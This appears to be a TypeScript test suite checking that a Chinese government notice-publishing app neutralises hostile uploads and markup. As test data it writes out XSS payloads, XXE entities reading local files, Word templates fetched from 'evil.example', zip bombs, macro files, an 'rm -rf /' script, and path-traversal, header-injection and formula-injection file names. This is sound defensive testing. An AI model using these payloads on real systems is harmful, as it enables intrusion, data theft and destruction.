import JSZip from 'jszip';
import { PNG } from 'pngjs';
import { beforeAll, describe, expect, test } from 'vitest';
import { clockAt } from '../../src/core/clock.ts';
import { noticesColumn } from '../support/catalogue.ts';
import { openDesk } from '../support/desk.ts';
import { heavyMarkup, hostileMarkup, strangeIn } from '../support/hostile-content.ts';
import type { Page, UploadFile, Visitor } from '../support/visitor.ts';
import { wordFile } from '../support/word-file.ts';
import { wordsOf } from '../support/words.ts';

const desk = await openDesk({}, clockAt('2018-03-06'));
const { app, agencyId, pool, signedIn } = desk;
const publisher = await signedIn('publisher');
const officer = await signedIn('disclosure-officer');
const reader = desk.stranger();
const columnId = await noticesColumn(app.connection.db, agencyId, { reviewSteps: ['final'] });

const content = {
  abstract: '部署汛期检查。',
  columnId: String(columnId),
  genre: '通知',
  subject: '市场监管、安全生产监管',
  issuingBody: '昆明高新区管委会',
  formedOn: '2018-03-05',
  attribute: 'proactive',
  channels: 'website',
};

async function begun(title = '测试'): Promise<string> {
  await publisher.get('/workbench/items/new');
  const answer = await publisher.upload('/workbench/items/new', [], { title });
  if (answer.status !== 303) throw new Error(`${answer.status} ${wordsOf(answer.body).slice(0, 500)}`);
  return answer.location ?? '';
}

async function saved(address: string, fields: Record<string, string>): Promise<Page> {
  const page = await publisher.get(address);
  const revision = /name="revision" value="(\d+)"/.exec(page.body)?.[1] ?? '';
  return publisher.post(`${address}/draft`, { title: '测试', ...content, revision, ...fields });
}

const idOf = (address: string) => Number(address.split('/').at(-1));
async function bodyOf(address: string): Promise<string> {
  const { rows } = await pool.query('SELECT body FROM item_versions WHERE item_id = $1 ORDER BY version', [
    idOf(address),
  ]);
  return String(rows.at(-1)?.body);
}

async function published(address: string): Promise<Page> {
  await publisher.get(`${address}/submission`);
  await publisher.post(`${address}/submission`);
  const page = await officer.get(address);
  const revision = /name="revision" value="(\d+)"/.exec(page.body)?.[1] ?? '';
  await officer.post(`${address}/reviews`, { step: 'final', revision, result: 'passed', opinion: '' });
  const { rows } = await pool.query('SELECT index_number, state FROM items WHERE id = $1', [idOf(address)]);
  expect(rows[0]?.state).toBe('published');
  return reader.get(`/items/${rows[0]?.index_number}`);
}

const LINKS = /^(https?:\/\/|mailto:|tel:|\/(?!\/)|#|\?|[\w.%-]+($|[/?#]))/;

describe('markup that would run keeps its words and nothing else', () => {
  test.each(Object.entries(hostileMarkup))('%s', async (_name, body) => {
    const address = await begun();
    expect((await saved(address, { body })).status).toBe(303);
    const kept = await bodyOf(address);
    expect(strangeIn(kept, LINKS)).toEqual([]);
  });

  test('a NUL, which no text has, is refused in words', async () => {
    const address = await begun();
    const answer = await saved(address, { body: '<scr\u0000ipt>alert(1)</scr\u0000ipt>' });
    expect([answer.status, wordsOf(answer.body)]).toEqual([400, expect.stringMatching(/[\u4e00-\u9fff]{4}/)]);
    expect(await bodyOf(address)).toBe('');
  });

  test('in every field that is a line of text it is text', async () => {
    const bad = '"><img src=x onerror=alert(1)><script>alert(1)</script>';
    const address = await begun(`标题${bad}`);
    const fields = { title: `标题${bad}`, abstract: bad, issuingBody: bad, source: bad, keywords: bad };
    await saved(address, { ...fields, body: '<p>正文</p>' });
    const pages = [
      await publisher.get(address),
      await publisher.get(`${address}/preview`),
      await publisher.get('/workbench/items?group=drafts'),
      await published(address),
      await reader.get('/catalogue/notices'),
      await reader.get('/feed.xml'),
      await publisher.get(`${address}/record`),
    ];
    for (const page of pages) {
      expect(page.status).toBe(200);
      expect(page.body).not.toMatch(/<img src=x|<script>alert/);
    }
    const csv = await publisher.get('/workbench/items/export?group=published');
    expect(csv.status).toBe(200);
  });

  test('published, it is served under a policy that runs nothing of it', async () => {
    const address = await begun();
    await saved(address, { body: Object.values(hostileMarkup).join('<p>其次</p>') });
    const page = await published(address);
    expect(page.status).toBe(200);
    const policy = String(page.headers['content-security-policy']);
    expect(policy).toMatch(/script-src 'self'(;| )/);
    expect(policy).not.toMatch(/unsafe-inline[^;]*script|unsafe-eval/);
    const article = /<div class="item-body">([\s\S]*?)<\/article>/.exec(page.body)?.[1] ?? '';
    expect(article).not.toMatch(/<(script|svg|iframe|style|form|object|meta|base|link)\b/i);
    expect(article).not.toMatch(/<[^>]*\s(on\w+|style|srcset|id|name|data-|hx-)/i);
  });
});

describe('what is only too much is taken or refused in words, in time', () => {
  test.each(Object.entries(heavyMarkup))(
    '%s',
    async (_name, made) => {
      const address = await begun();
      const before = performance.now();
      const answer = await saved(address, { body: made() });
      const took = performance.now() - before;
      expect([answer.status, wordsOf(answer.body).slice(0, 300)]).toEqual([303, '']);
      expect(strangeIn(await bodyOf(address))).toEqual([]);
      expect((await publisher.get(address)).status).toBe(200);
      expect((await publisher.get(`${address}/preview`)).status).toBe(200);
      expect((await published(address)).status).toBe(200);
      expect(took).toBeLessThan(15_000);
    },
    60_000,
  );

  test('a table wider than any page is scrolled in a frame of its own, its spans are bounded', async () => {
    const address = await begun();
    const wide = heavyMarkup['a table of 300 columns']?.() ?? '';
    const spans = heavyMarkup['cells over ten thousand columns']?.() ?? '';
    await saved(address, { body: wide + spans });
    const page = await published(address);
    expect(page.body.match(/<div class="item-table" role="region" tabindex="0"/g)).toHaveLength(2);
    const kept = await bodyOf(address);
    expect(kept.match(/<th>/g)).toHaveLength(300);
    expect(kept).not.toMatch(/(col|row)span="(\d{5,}|-)/);
  });

  test('more than two million characters are refused with what to do instead', async () => {
    const address = await begun();
    const answer = await saved(address, { body: `<p>${'x'.repeat(2_000_001)}</p>` });
    expect([answer.status, wordsOf(answer.body)]).toEqual([422, expect.stringContaining('作为附件上传')]);
  });

  test('a form beyond all bounds is refused, and the page of somebody else answers meanwhile', async () => {
    const address = await begun();
    await publisher.get(address);
    const [huge, other] = await Promise.all([
      publisher.post(`${address}/draft`, {
        ...content,
        title: '测试',
        revision: '1',
        body: 'x'.repeat(21 * 2 ** 20),
      }),
      reader.get('/'),
    ]);
    expect([huge.status, other.status]).toEqual([413, 200]);
    expect(wordsOf(huge.body)).toMatch(/[\u4e00-\u9fff]{4}/);
  });
});

async function zipOf(entries: Record<string, string | Buffer>, from?: Buffer): Promise<Buffer> {
  const zip = from ? await JSZip.loadAsync(from) : new JSZip();
  for (const [name, value] of Object.entries(entries)) zip.file(name, value);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const macroTypes = (main: string) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/x" ContentType="${main}"/></Types>`;
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const svg =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><foreignObject/></svg>';
const png = () => PNG.sync.write(new PNG({ width: 4, height: 4 }));

async function relationsOf(word: Buffer, more: string): Promise<string> {
  const zip = await JSZip.loadAsync(word);
  const text = (await zip.file('word/_rels/document.xml.rels')?.async('string')) ?? '';
  return text.replace('</Relationships>', `${more}</Relationships>`);
}

/** Deep down the same bytes again and again; the directory says so truthfully. */
const bombOf = (part: string) =>
  zipOf({ '[Content_Types].xml': '<Types/>', [part]: Buffer.alloc(120 * 2 ** 20, 0x20) });

describe('files that are not what they seem', () => {
  type Bad = [what: string, name: string, content: () => Promise<Buffer | string>, words: RegExp];
  const refused: Bad[] = [
    [
      'a document with macros',
      '通知.docm',
      async () => zipOf({ 'word/vbaProject.bin': 'x' }, await wordFile()),
      /带有宏/,
    ],
    [
      'macros in a plain document',
      '通知.docx',
      async () => zipOf({ 'word/vbaProject.bin': 'x' }, await wordFile()),
      /带有宏/,
    ],
    [
      'macros under another name',
      '通知.docx',
      async () =>
        zipOf(
          {
            'word/media/image9.png': 'x',
            '[Content_Types].xml': macroTypes('application/vnd.ms-office.vbaProject'),
          },
          await wordFile(),
        ),
      /带有宏/,
    ],
    [
      'a workbook with macros',
      '表.xlsm',
      () =>
        zipOf({
          '[Content_Types].xml': macroTypes('application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
          'xl/workbook.xml': '<workbook/>',
        }),
      /带有宏/,
    ],
    [
      'macro sheets of old',
      '表.xlsx',
      () =>
        zipOf({
          '[Content_Types].xml': '<Types/>',
          'xl/workbook.xml': '<workbook/>',
          'xl/macrosheets/sheet1.xml': '<x/>',
        }),
      /带有宏/,
    ],
    [
      'a Word file that unpacks without end',
      '炸弹.docx',
      () => bombOf('word/document.xml'),
      /文件异常|已拒绝打开/,
    ],
    [
      'a workbook that unpacks without end',
      '炸弹.xlsx',
      () => bombOf('xl/workbook.xml'),
      /文件异常|已拒绝打开/,
    ],
    ['a drawing that runs', '图.svg', async () => svg, /其实是网页或 XML/],
    ['a drawing that runs, called a picture', '图.png', async () => svg, /其实是网页或 XML/],
    [
      'a web page called a PDF',
      '文.pdf',
      async () => '<!DOCTYPE html><script>alert(1)</script>',
      /其实是网页或 XML/,
    ],
    [
      'a program called a picture',
      '图.jpg',
      async () => Buffer.from('MZ\0\0\x03\0\0\0', 'latin1'),
      /程序|不是可以上传的类型/,
    ],
    ['a script called a text', '文.txt', async () => '#!/bin/sh\nrm -rf /', /脚本/],
    ['an archive', '包.docx', () => zipOf({ 'a.txt': 'x' }), /压缩包/],
    ['nothing', '空.pdf', async () => '', /空文件/],
  ];

  test.each(refused)(
    '%s is refused in words',
    async (_what, name, made, words) => {
      const address = await begun();
      await publisher.get(address);
      const bytes = await made();
      for (const kind of ['attachment', 'picture']) {
        const answer = await publisher.follow(
          await publisher.upload(`${address}/files`, { name, content: bytes }, { kind }),
        );
        expect(wordsOf(answer.body)).toMatch(words);
      }
      const { rows } = await pool.query('SELECT count(*)::int AS n FROM item_files WHERE item_id = $1', [
        idOf(address),
      ]);
      expect(rows[0]?.n).toBe(0);
    },
    60_000,
  );

  test.each(refused.filter(([, name]) => /\.doc[xm]$/.test(name)))(
    '%s does not become the text of an item',
    async (_what, name, made, words) => {
      const address = await begun();
      await publisher.get(address);
      const answer = await publisher.follow(
        await publisher.upload(`${address}/import`, { name, content: await made(), field: 'word' }),
      );
      expect(wordsOf(answer.body)).toMatch(words);
      expect(await bodyOf(address)).toBe('');
    },
    60_000,
  );

  test('pictures are what their bytes are; one that lies is kept out of the text', async () => {
    const address = await begun();
    await publisher.get(address);
    const answer = await publisher.follow(
      await publisher.upload(`${address}/files`, { name: '其实是图.pdf', content: png() }),
    );
    expect(wordsOf(answer.body)).toContain('已上传 1 份文件');
    const page = /\/workbench\/items\/\d+\/files\/\d+/.exec(answer.body)?.[0] ?? '';
    const shown = await publisher.get(page);
    expect(shown.headers['content-type']).toBe('image/png');
    expect(shown.headers['x-content-type-options']).toBe('nosniff');
    const bad = await publisher.follow(
      await publisher.upload(
        `${address}/files`,
        { name: '其实是文.png', content: '%PDF-1.7\n' },
        { kind: 'picture' },
      ),
    );
    expect(wordsOf(bad.body)).toContain('不是 PNG 或 JPG 图片');
  });

  test.each<[string, () => Buffer]>([
    [
      'a picture with a page behind it',
      () => Buffer.concat([png(), Buffer.from('<script>alert(1)</script>')]),
    ],
    ['a PDF with a page behind it', () => Buffer.from('%PDF-1.7\n<script>alert(1)</script>\n%%EOF')],
  ])('%s is never opened as a page', async (_what, made) => {
    const address = await begun();
    await publisher.get(address);
    const answer = await publisher.follow(
      await publisher.upload(`${address}/files`, { name: '文件.html', content: made() }),
    );
    const page = /\/workbench\/items\/\d+\/files\/\d+/.exec(answer.body)?.[0] ?? '';
    const shown = await publisher.get(page);
    expect(String(shown.headers['content-type'])).toMatch(/^(image\/png|application\/pdf)$/);
    expect(shown.headers['content-security-policy']).toContain('sandbox');
    expect(shown.headers['x-content-type-options']).toBe('nosniff');
  });

  test('names lead nowhere and hide nothing', async () => {
    const address = await begun();
    const text = '本表由办公室解释。';
    const names: [string, string][] = [
      ['../../../etc/passwd.txt', 'passwd.txt'],
      ['C:\\Windows\\system32\\说明.txt', '说明.txt'],
      ['说明\u202etxt.exe.txt', '说明txt.exe.txt'],
      ['空\u0000字.txt', '空字.txt'],
      [`${'长'.repeat(300)}.txt`, `${'长'.repeat(196)}.txt`],
      ['=cmd|calc!A0.txt', '=cmd|calc!A0.txt'],
      ['"><img src=x onerror=alert(1)>.txt', '%22><img src=x onerror=alert(1)>.txt'],
      ['行\r\nSet-Cookie: a=b.txt', '行%0D%0ASet-Cookie: a=b.txt'],
    ];
    for (const [index, [given]] of names.entries()) {
      await publisher.get(address);
      const files: UploadFile = { name: given, content: `${text}${index}` };
      await publisher.upload(`${address}/files`, files);
    }
    const { rows } = await pool.query('SELECT id, name FROM item_files WHERE item_id = $1 ORDER BY id', [
      idOf(address),
    ]);
    expect(rows.map(({ name }) => name)).toEqual(names.map(([, kept]) => kept));
    const page = await publisher.get(address);
    expect(page.body).not.toContain('<img src=x');
    for (const { id } of rows) {
      const file = await publisher.get(`${address}/files/${id}`);
      expect(file.status).toBe(200);
      expect(String(file.headers['content-disposition'])).toMatch(
        /^attachment; filename\*=UTF-8''[\w.%!'()*-]+$/,
      );
      expect(file.headers['set-cookie']).toBeUndefined();
    }
  });
});

describe('Word files that look elsewhere', () => {
  async function imported(word: Buffer): Promise<{ body: string; told: string }> {
    const address = await begun();
    await publisher.get(address);
    const answer = await publisher.follow(
      await publisher.upload(`${address}/import`, { name: '通知.docx', content: word, field: 'word' }),
    );
    return { body: await bodyOf(address), told: wordsOf(answer.body) };
  }

  test('pictures and templates from elsewhere are not fetched', async () => {
    const word = await wordFile();
    const outside = (id: string, type: string) =>
      `<Relationship Id="${id}" Type="${RELATIONS}/${type}" Target="http://127.0.0.1:1/evil" TargetMode="External"/>`;
    const made = await zipOf(
      {
        'word/_rels/document.xml.rels': await relationsOf(
          word,
          `${outside('rIdX', 'image')}${outside('rIdY', 'attachedTemplate')}${outside('rIdZ', 'subDocument')}`,
        ),
      },
      word,
    );
    const { body, told } = await imported(made);
    expect(told).toContain('已导入');
    expect(strangeIn(body)).toEqual([]);
    expect(body).not.toContain('evil');
  });

  test('a picture that is a file of this machine is not read', async () => {
    const word = await wordFile();
    const zip = await JSZip.loadAsync(word);
    const document = (await zip.file('word/document.xml')?.async('string')) ?? '';
    const file = `<Relationship Id="rIdF" Type="${RELATIONS}/image" Target="file://${process.cwd()}/docs/pictures/report-desk.png" TargetMode="External"/>`;
    const made = await zipOf(
      {
        'word/document.xml': document.replace(/r:embed="[^"]*"/, 'r:link="rIdF"'),
        'word/_rels/document.xml.rels': await relationsOf(word, file),
      },
      word,
    );
    const { body, told } = await imported(made);
    expect(body).not.toContain('<img');
    expect(told).toMatch(/没有导入/);
  });

  test('a link that would run is no link', async () => {
    const word = await wordFile('点这里');
    const zip = await JSZip.loadAsync(word);
    const document = (await zip.file('word/document.xml')?.async('string')) ?? '';
    const made = await zipOf(
      {
        'word/document.xml': document.replace(
          /<w:p>(?=(?:(?!<w:p>)[\s\S])*点这里)/,
          `<w:p><w:hyperlink xmlns:r="${RELATIONS}" r:id="rIdX"><w:r><w:t>运行</w:t></w:r></w:hyperlink>`,
        ),
        'word/_rels/document.xml.rels': await relationsOf(
          word,
          `<Relationship Id="rIdX" Type="${RELATIONS}/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>`,
        ),
      },
      word,
    );
    const { body } = await imported(made);
    expect(body).toContain('运行');
    expect(body).not.toMatch(/javascript/i);
  });

  test.each([
    ['a file of this machine', '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>'],
    ['an address', '<!DOCTYPE d [<!ENTITY x SYSTEM "http://127.0.0.1:1/evil">]>'],
    [
      'words without end',
      `<!DOCTYPE d [<!ENTITY a "${'长'.repeat(1000)}">${Array.from({ length: 9 }, (_, n) => `<!ENTITY ${String.fromCharCode(98 + n)} "${`&${String.fromCharCode(97 + n)};`.repeat(10)}">`).join('')}<!ENTITY x "&j;">]>`,
    ],
  ])('an entity that stands for %s stands for nothing', async (_what, doctype) => {
    const text = `<?xml version="1.0"?>${doctype}<w:document ${W}><w:body><w:p><w:r><w:t>前&x;后</w:t></w:r></w:p></w:body></w:document>`;
    const before = performance.now();
    const { body, told } = await imported(await zipOf({ 'word/document.xml': text }, await wordFile()));
    expect(performance.now() - before).toBeLessThan(10_000);
    expect(body.length).toBeLessThan(1000);
    expect(told).toMatch(/已导入|无法读取|已损坏|文件异常/);
    if (body === '') expect(told).toMatch(/无法读取|已损坏|文件异常/);
  });

  test('as an attachment such a file does not pass the gate unseen', async () => {
    const address = await begun();
    const word = await wordFile();
    const zip = await JSZip.loadAsync(word);
    const settings =
      (await zip.file('word/_rels/settings.xml.rels')?.async('string')) ??
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>';
    const made = await zipOf(
      {
        'word/_rels/settings.xml.rels': settings.replace(
          '</Relationships>',
          `<Relationship Id="rIdT" Type="${RELATIONS}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
        ),
      },
      word,
    );
    await publisher.get(address);
    await publisher.upload(`${address}/files`, { name: '模板.docx', content: made });
    const { rows } = await pool.query('SELECT released FROM item_files WHERE item_id = $1', [idOf(address)]);
    expect(rows).toEqual([{ released: false }]);
  });

  test('three hundred columns and very long words come through as what they are', async () => {
    const row = `<w:tr>${'<w:tc><w:p><w:r><w:t>列</w:t></w:r></w:p></w:tc>'.repeat(300)}</w:tr>`;
    const text = `<?xml version="1.0"?><w:document ${W}><w:body><w:tbl>${row.repeat(20)}</w:tbl><w:p><w:r><w:t>${'长'.repeat(600_000)}</w:t></w:r></w:p></w:body></w:document>`;
    const { body, told } = await imported(await zipOf({ 'word/document.xml': text }, await wordFile()));
    expect(told).toContain('已导入');
    expect(body.match(/<t[dh]\b/g)).toHaveLength(6000);
    expect(body).toContain('长'.repeat(600_000));
  }, 60_000);
});

describe('while somebody sends the worst of it', () => {
  let address = '';
  beforeAll(async () => {
    address = await begun();
    await publisher.get(address);
  });

  async function longestWait(work: () => Promise<unknown>, visitor: Visitor): Promise<number> {
    let done = false;
    let longest = 0;
    const watching = (async () => {
      while (!done) {
        const before = performance.now();
        await visitor.get('/healthz');
        longest = Math.max(longest, performance.now() - before);
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    })();
    await work().finally(() => {
      done = true;
    });
    await watching;
    return longest;
  }

  test.each<[string, () => Promise<unknown>]>([
    [
      'a zip bomb',
      async () =>
        publisher.upload(`${address}/files`, {
          name: '炸弹.docx',
          content: await bombOf('word/document.xml'),
        }),
    ],
    [
      'two million bytes in one paragraph',
      async () =>
        saved(address, { body: heavyMarkup['a paragraph of two million bytes in Chinese']?.() ?? '' }),
    ],
    ['deep nesting', async () => saved(address, { body: heavyMarkup['quotations in quotations']?.() ?? '' })],
    ['many elements', async () => saved(address, { body: heavyMarkup['many elements']?.() ?? '' })],
  ])(
    'others are answered: %s',
    async (_what, work) => {
      expect(await longestWait(work, desk.stranger())).toBeLessThan(5000);
    },
    60_000,
  );
});
